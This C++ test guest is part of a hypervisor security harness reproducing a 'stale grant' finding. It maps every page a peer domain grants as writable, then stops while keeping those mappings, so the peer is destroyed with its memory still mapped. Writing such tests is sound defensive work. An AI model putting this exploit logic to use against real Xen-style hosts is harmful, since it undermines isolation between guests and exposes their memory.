// Finding 2, the mapper M (guests/attack/stale_granter.cpp tells the story):
// the back-end of a RING connection with the granter G. It maps every page G
// grants it (writable), says so (back-end state 4), and waits until G's home
// disappears from XenStore (G stopped and the builder is reaping it, waiting
// for M to unmap). Then it stops too, holding every mapping: the builder
// destroys G while M is stopped, restarts G, and destroys M after.

#include "common.hpp"

using namespace attack;

namespace {
constexpr unsigned kMax = 248;
alignas(4096) uint8_t g_win[kMax][4096];
abi::GnttabMapGrantRef g_ops[kMax];
}  // namespace

void rt::main() {
    rt::events_init();
    bool xs = bool(rt::xs_init());
    RingEnd ring;
    char path[160];
    bool found = xs && find_frontends(&ring, 1) == 1 &&
                 wait_number(node(path, sizeof path, ring.theirs, "state"), 3, rt::now_ns() + 60 * kSecond);
    long n = found ? read_number(node(path, sizeof path, ring.theirs, "nr-refs")) : -1;
    long ref = found ? read_number(node(path, sizeof path, ring.theirs, "ring-ref")) : -1;
    check(found && n > 0 && n <= long(kMax) && ref > 0, "attack.stale_grant.mapper_found_granter", "%ld refs from %ld",
          n, ref);
    if (!found || n <= 0 || n > long(kMax) || ref <= 0) return done();

    for (long k = 0; k < n; ++k) {
        g_ops[k] = abi::GnttabMapGrantRef{};
        g_ops[k].host_addr = rt::ptr(g_win[k]);
        g_ops[k].flags = abi::kGntmapHostMap;
        g_ops[k].ref = uint32_t(ref + k);
        g_ops[k].dom = uint16_t(ring.peer);
    }
    long r = gnttab(abi::GnttabOp::map_grant_ref, g_ops, uint64_t(n));
    long mapped = 0;
    for (long k = 0; k < n; ++k) mapped += g_ops[k].status == 0;
    check(r == 0 && mapped == n, "attack.stale_grant.mapper_mapped_all", "rc %ld, %ld of %ld mapped", r, mapped, n);
    (void)rt::xs_write(node(path, sizeof path, ring.mine, "state"), "4");

    bool stopped = wait_gone(node(path, sizeof path, ring.theirs, "state"), rt::now_ns() + 60 * kSecond);
    check(stopped, "attack.stale_grant.mapper_saw_granter_stop");
    // The scenario needs the granter destroyed after we stop: our mappings
    // are all still here (destroying the granter would have revoked them).
    long held = 0;
    for (long k = 0; k < n; ++k) {
        uint64_t e = l1e_of(rt::ptr(g_win[k]));
        held += (e & rt::kPteP) && g_ops[k].status == 0;
    }
    check(held == mapped, "attack.stale_grant.mapper_stops_holding_mappings", "%ld of %ld mappings still there", held,
          mapped);
    rt::printf("the granter stopped with %ld of its pages mapped here: stopping too, without unmapping them\n", mapped);
    done();
}
